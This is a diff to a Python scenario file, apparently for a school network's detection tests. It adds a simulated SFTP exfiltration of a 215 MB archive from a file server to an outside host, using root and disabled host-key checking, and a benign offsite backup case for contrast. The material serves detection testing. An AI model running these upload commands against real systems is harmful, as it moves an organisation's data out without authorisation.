@@ -1,6 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0
 """What is allowed on the Internet, but not here or not now."""
 
+import contextlib
 import os
 import random
 import time
@@ -8,6 +9,7 @@ import time
 from acts import fetch, greet_gateway, visit
 from outside import OTHER
 from scenario import ATTACK, CONVERSATION, HARMLESS, MISUSE, UNANSWERED, Scenario
+from scenarios.guessing import start_ssh
 from web import serve_nginx
 
 
@@ -125,6 +127,50 @@ def backup(school):
     server.run("rm", "-r", server.path("papers"))
 
 
+VAULT = "vault.hallwatch-school.test"
+SSH = """IdentityFile {key}
+User root
+BatchMode yes
+StrictHostKeyChecking no
+UserKnownHostsFile /dev/null
+LogLevel ERROR
+"""
+
+
+@contextlib.contextmanager
+def host_by_ssh(school, who, name):
+    """A host outside that takes a machine's papers.zip of 215 MB by SSH; gives the machine's
+    settings for ssh, and where there to put it."""
+    far, host = school["outside"], school[who]
+    far.run("mkdir", "-p", far.path("taken"))
+    with open(host.path("papers.zip"), "wb") as file:
+        file.truncate(215_000_000)
+    sshd, key = start_ssh(far, host, OTHER[name])
+    with sshd:
+        greet_gateway(school, who)
+        school.uncut(who)
+        yield host.write("ssh_config", SSH.format(key=key)), f"{name}:{far.path('taken')}/"
+        school.uncut(who, "off")
+    far.run("rm", "-r", far.path("taken"))
+    os.unlink(host.path("papers.zip"))
+
+
+def sftp_upload(school):
+    """The file server's data leave by SFTP, 60 MB a second at most."""
+    server = school["srv-files"]
+    with host_by_ssh(school, "srv-files", FILE_HOST) as (config, there):
+        server.run("sftp", "-q", "-F", config, "-l", 480_000, "-b", "-", there,
+                   stdin=f"put {server.path('papers.zip')}\n", timeout=120)
+
+
+def offsite_backup(school):
+    """The office's backup to the district's own host elsewhere, 60 MB a second at most."""
+    admin = school["admin-01"]
+    with host_by_ssh(school, "admin-01", VAULT) as (config, there):
+        admin.run("rsync", "-a", "--bwlimit=60M", "-e", f"ssh -F {config}",
+                  admin.path("papers.zip"), there, timeout=120)
+
+
 SCENARIOS = [
     Scenario("large-upload", ATTACK,
              "The file server sends 215 MB to a file host outside.", large_upload,
@@ -137,6 +183,16 @@ SCENARIOS = [
              "A server's backup of 190 MB goes to a file host outside, by rsync in TLS at "
              "two in the night; 10 MB more would raise exfil.server-upload.", backup,
              ["rsync", "socat"], thin=True, by_night=True),
+    Scenario("sftp-upload", ATTACK,
+             "The file server sends 215 MB to a file host outside by SFTP, which names no "
+             "host; the look-up before does.", sftp_upload,
+             ["sftp", "ssh-keygen", "sshd"], ["exfil.server-upload"], within=CONVERSATION,
+             thin=True, told_by=17),
+    Scenario("offsite-backup", HARMLESS,
+             "The administrator's computer sends 215 MB to the district's own host elsewhere, "
+             "by rsync over SSH at two in the night; to a file host it would raise "
+             "exfil.server-upload.", offsite_backup,
+             ["rsync", "ssh", "ssh-keygen", "sshd"], thin=True, by_night=True),
     Scenario("unapproved-vendor", MISUSE,
              "Five student devices use a learning app that is not in the vendor "
              "register.", unapproved_vendor, rules=["privacy.unapproved-vendor"],
